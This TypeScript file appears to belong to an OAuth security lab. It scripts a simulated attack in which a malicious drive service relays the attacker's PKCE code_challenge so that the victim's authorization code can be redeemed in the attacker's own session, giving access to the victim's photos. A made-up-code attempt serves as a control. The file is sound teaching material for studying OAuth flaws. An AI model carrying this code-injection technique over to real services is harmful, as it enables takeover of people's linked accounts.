import type { Answer, EvilPage, Lab, Place } from '../engine/lab.ts'
import type { Person } from '../engine/person.ts'
import { freeDrive } from './free-drive.ts'

const chosen = { code_challenge: '' }

export function evilPages(place: Place): Record<string, EvilPage> {
  chosen.code_challenge = ''
  return freeDrive(place, chosen)
}

/** What Mallory's desk has for this lab: the one thing about FreeDrive that she can set. */
export const evilDesk: Lab['evilDesk'] = () =>
  `<section><h2>Run FreeDrive</h2><form method="post" action="/challenge"><label for="code_challenge">code_challenge to pass on to CloudDrive; empty: the one that came</label><input id="code_challenge" name="code_challenge" value="${chosen.code_challenge.replaceAll(/[^\w-]/g, '')}" autocomplete="off" spellcheck="false"><button type="submit">Pass this on</button></form></section>
`

/**
 * Mallory asks at the shop herself, and keeps the challenge of her question. Alice, at FreeDrive, is sent on to CloudDrive with
 * it. The shop brings Alice's code to FreeDrive; and Mallory brings it to the shop, as the answer to her own question.
 */
export async function attack(place: Place): Promise<Answer> {
  const mallory = place.person('mallory')
  const question = await ask(place, mallory)
  await passOn(place, question.get('code_challenge') ?? '')
  const alice = await connectWithFreeDrive(place)
  const code = new URLSearchParams(place.inbox.findLast(({ path }) => path === '/token')?.body).get('code')
  if (code === null) return alice
  return bring(place, mallory, code, question.get('state') ?? '')
}

/** Mallory does nothing but make a code up: no drive has issued it. */
export async function wrongAttempt(place: Place): Promise<Answer> {
  const mallory = place.person('mallory')
  const question = await ask(place, mallory)
  return bring(place, mallory, 'code_made-up-by-mallory', question.get('state') ?? '')
}

async function ask({ shop }: Place, mallory: Person): Promise<URLSearchParams> {
  const answer = await mallory.open(`${shop}/connect`)
  return new URL(answer.headers.get('Location') ?? '', shop).searchParams
}

async function passOn({ evil }: Place, code_challenge: string): Promise<void> {
  await (await fetch(`${evil}/challenge`, { method: 'POST', body: new URLSearchParams({ code_challenge }) })).text()
}

async function connectWithFreeDrive({ shop, person }: Place): Promise<Answer> {
  const alice = person('alice')
  const { url } = await alice.walk(`${shop}/connect?drive=free`, { photos: 4, stopAt: /\/callback\?/ })
  const page = await alice.open(url)
  return { status: page.status, text: await page.text() }
}

async function bring({ shop, auth }: Place, mallory: Person, code: string, state: string): Promise<Answer> {
  const answer = await mallory.open(`${shop}/callback?${new URLSearchParams({ code, state, iss: auth })}`)
  if (answer.status >= 400) return { status: answer.status, text: await answer.text() }
  const photos = await mallory.open(`${shop}/photos`)
  return { status: photos.status, text: await photos.text() }
}
